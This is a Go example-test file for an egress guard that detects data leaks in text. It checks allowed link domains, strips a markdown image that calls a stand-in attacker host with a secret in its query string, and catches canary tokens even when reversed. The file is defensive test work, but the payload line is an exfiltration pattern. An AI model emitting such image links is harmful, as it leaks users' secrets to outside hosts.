package egress_test

import (
	"fmt"

	"github.com/custodyhq/custody/security/guard/egress"
)

func ExampleRules_Find() {
	rules, err := egress.New(egress.Policy{Links: []string{".northwind.example"}})
	if err != nil {
		fmt.Println(err)
		return
	}
	text := "Read [the terms](https://www.northwind.example/terms).\n![x](https://evil.example/?q=secret)"
	rules.Find(text, func(f egress.Finding) bool {
		fmt.Println(f.Rule, f.Start, f.End, f.Replacement)
		return true
	})
	// Output:
	// image.host 55 91 [image removed]
}

// What one call must not repeat is added to the rules of its step.
func ExampleRules_Protect() {
	step, err := egress.New(egress.Policy{})
	if err != nil {
		fmt.Println(err)
		return
	}
	call, err := step.Protect(egress.Protected{Canaries: []string{"q7w8-e9r0-t1z2"}})
	if err != nil {
		fmt.Println(err)
		return
	}
	call.Find("Backwards it is 2z1t-0r9e-8w7q.", func(f egress.Finding) bool {
		fmt.Println(f.Rule, f.Start, f.End, f.Read)
		return true
	})
	// Output:
	// leak.canary 16 30 reversed
}
